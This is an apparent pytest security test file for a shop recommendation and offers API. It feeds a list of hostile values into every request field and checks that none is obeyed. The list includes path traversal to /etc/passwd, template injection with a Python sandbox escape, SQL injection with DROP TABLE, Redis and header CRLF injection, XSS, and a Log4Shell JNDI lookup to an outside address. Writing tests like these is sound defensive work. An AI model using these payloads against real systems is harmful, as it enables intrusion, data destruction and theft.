"""Hostile values in every field of every call: refused by name or taken as plain text, never obeyed, never a 500."""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from pydantic import BaseModel

from serving.api_offers import OfferContext
from serving.api_writes import EventEntry, IdentityEntry, StockEntry
from serving.bundle import Bundle
from serving.engine import Engine
from serving.http_calls import CALLS, TELLINGS, Call
from tests.serving.asgi import NOW, Client, Reply, client

AT = "2018-01-02T11:00:00Z"

SUM = "7919*104729*1299709*15485863"
EVALUATED = str(7919 * 104729 * 1299709 * 15485863)  # long: no decision's id holds it by chance

HOSTILE = {
    "a path out of the home": "../../../../etc/passwd",
    "an absolute path": "/etc/passwd",
    "a template": f"{{{{ {SUM} }}}}${{{SUM}}}<%= {SUM} %>#{{{SUM}}}",
    "a template's way out": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "a query": "' OR '1'='1'; DROP TABLE documents; --",
    "a Redis command": "x\r\nFLUSHALL\r\n",
    "a header": "x\r\nSet-Cookie: stolen=1",
    "a script": "<script>alert(1)</script>",
    "a look-up": "${jndi:ldap://203.0.113.9/a}",
    "a null byte": "anna\x00.toml",
    "a key of the store": "person/anna",
    "a format": "%s%n%x{0.__class__}",
    "a prototype": "__proto__",
    "text that turns round": "\u202eanna\u2066",
    "many accents": "a" + "\u0301" * 150,
    "half a pair": "\ud800",
    "a number in words": "1e999",
    "nothing": "",
    "blanks": " \t ",
    "too long": "a" * 5_000,
}

_DECISION = {"at": AT, "placement": "page", "dry_run": False}
_CONTEXT: dict[str, Any] = {
    "basket": ["milk-1"],
    "page": "home",
    "latitude": 1.0,
    "longitude": 2.0,
    "local_time": "2018-01-02T06:00:00-05:00",
}
WHOLE: dict[str, dict[str, Any]] = {
    "/v1/challenge": {
        **_DECISION,
        "customer_id": "anna",
        "store_id": "s1",
        "channel": "web",
        "exclude": ["wine-1"],
        "basket": ["milk-1"],
    },
    "/v1/also-bought": {
        **_DECISION,
        "product_ids": ["milk-1"],
        "k": 3,
        "customer_id": "anna",
        "exclude": ["wine-1"],
        "store_id": "s1",
    },
    "/v1/recommendations": {
        **_DECISION,
        "customer_id": "anna",
        "k": 3,
        "intent": "mixed",
        "category": "Milk",
        "exclude": ["wine-1"],
        "basket": ["milk-1"],
        "in_stock": True,
        "max_price": 9.0,
        "max_per_category": 2,
        "level": "product",
    },
    "/v1/substitutes": {**_DECISION, "product_id": "milk-1", "k": 3, "customer_id": "anna", "store_id": "s1"},
    "/v1/offers": {
        **_DECISION,
        "customer_id": "anna",
        "channel": "web",
        "k": 3,
        "store_id": "s1",
        "exclude": ["o-1"],
        "context": _CONTEXT,
    },
    "/v1/actions": {
        **_DECISION,
        "customer_id": "anna",
        "trigger": "replenish",
        "channel": "email",
        "store_id": "s1",
        "exclude": ["o-1"],
        "context": _CONTEXT,
    },
    "/v1/scores": {**_DECISION, "customer_ids": ["anna"], "k_categories": 2},
    "/v1/audiences": {**_DECISION, "seed_customer_ids": ["anna"], "rule": None, "size": 3},
    "/v1/events": {
        "events": [
            {
                "event_id": "e-1",
                "customer_id": "anna",
                "type": "purchase",
                "at": AT,
                "product_id": "milk-1",
                "order_id": "o-1",
                "quantity": 1,
                "amount": 1.0,
                "discount": 0.1,
                "store_id": "s1",
                "offer_id": "o-1",
                "decision_id": "d" * 32,
                "channel": "web",
                "value": "word",
            }
        ]
    },
    "/v1/stock": {"stock": [{"product_id": "milk-1", "store_id": "s1", "available": 3}]},
    "/v1/identities": {"identities": [{"customer_id": "anna", "kind": "email", "value": "anna@example.org"}]},
    "/v1/decisions/{id}": {},
    "/v1/customers/{id}": {},
    "/v1/customers/{id}/consent": {"personalize": True, "email": True, "sms": True, "push": True, "location": True},
}
ENTRIES: dict[str, type[BaseModel]] = {
    "/v1/events": EventEntry,
    "/v1/stock": StockEntry,
    "/v1/identities": IdentityEntry,
}
ALL = (*CALLS, *TELLINGS)


def _named(call: Call) -> str:
    return f"{call.method} {call.path}"


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory, tiny_bundle: Bundle) -> Client:
    return client(tmp_path_factory.mktemp("shop") / "home", Engine(tiny_bundle), NOW)


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Yield where every value of a body stands, and every name of an object."""
    if isinstance(value, dict):
        for name, each in value.items():
            yield from places(each, (*path, name))
    elif isinstance(value, list):
        for i, each in enumerate(value):
            yield from places(each, (*path, i))
    else:
        yield path


def with_value(body: dict[str, Any], path: tuple[Any, ...], value: Any) -> dict[str, Any]:
    changed = copy.deepcopy(body)
    at: Any = changed
    for step in path[:-1]:
        at = at[step]
    at[path[-1]] = value
    return changed


def send(api: Client, call: Call, body: dict[str, Any], id_: str = "anna") -> Reply:
    content = json.dumps(body).encode() if body else b""
    return api.send(call.method, call.path.replace("{id}", quote(id_, safe="")), [content])


def assert_harmless(reply: Reply) -> None:
    assert 200 <= reply.status < 500, reply.body
    said = json.loads(reply.body) if reply.body else {}
    if reply.status >= 400:
        assert reply.headers["content-type"] == "application/problem+json"
        assert said["title"]
    text = reply.body.decode("utf-8")
    assert EVALUATED not in text
    assert "root:" not in text
    assert "Traceback" not in text
    for name, each in reply.headers.items():
        assert not {"\r", "\n"} & set(name + each)
        assert "stolen" not in each


@pytest.mark.parametrize("call", ALL, ids=_named)
def test_the_bodies_here_name_every_field(call: Call) -> None:
    body = WHOLE[call.path]
    entry = ENTRIES.get(call.path)
    if entry is not None:
        (row,) = next(iter(body.values()))
        assert set(row) == set(entry.model_fields)
    elif call.request is not None:
        assert set(body) == set(call.request.model_fields)
    if "context" in body:
        assert set(body["context"]) == set(OfferContext.model_fields)


@pytest.mark.parametrize("call", ALL, ids=_named)
def test_the_bodies_here_are_taken(api: Client, call: Call) -> None:
    if call.method != "DELETE" and call.path != "/v1/decisions/{id}":
        assert send(api, call, WHOLE[call.path]).status < 300


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("call", ALL, ids=_named)
def test_no_field_obeys_a_hostile_value(api: Client, call: Call, what: str) -> None:
    value, body = HOSTILE[what], WHOLE[call.path]
    for path in places(body):
        assert_harmless(send(api, call, with_value(body, path, value)))
        assert_harmless(send(api, call, with_value(body, path, [value])))
    if "{id}" in call.path:
        assert_harmless(send(api, call, body, value.encode("utf-8", "replace").decode("utf-8")))


@pytest.mark.parametrize("what", HOSTILE)
def test_no_rule_of_an_audience_is_more_than_a_rule(api: Client, what: str) -> None:
    for rule in (HOSTILE[what], f"churn_probability > {HOSTILE[what]}", f"{HOSTILE[what]} > 0.4"):
        reply = api.post("/v1/audiences", {"rule": rule, "size": 3})
        assert_harmless(reply)
        assert reply.status == 422


@pytest.mark.parametrize("what", HOSTILE)
def test_no_field_is_named_by_a_hostile_value(api: Client, what: str) -> None:
    for call in ALL:
        if call.request is not None:
            reply = send(api, call, {**WHOLE[call.path], HOSTILE[what]: 1})
            assert_harmless(reply)
            assert reply.status == 422


def test_all_of_it_leaves_the_disk_beside_the_home_alone(tmp_path: Path, tiny_bundle: Bundle) -> None:
    home = tmp_path / "shop" / "home"
    home.mkdir(parents=True)
    api = client(home, Engine(tiny_bundle), NOW)
    before = sorted(path for path in tmp_path.rglob("*") if home not in path.parents)

    for call in ALL:
        for value in HOSTILE.values():
            for path in places(WHOLE[call.path]):
                send(api, call, with_value(WHOLE[call.path], path, value))

    assert sorted(path for path in tmp_path.rglob("*") if home not in path.parents) == before
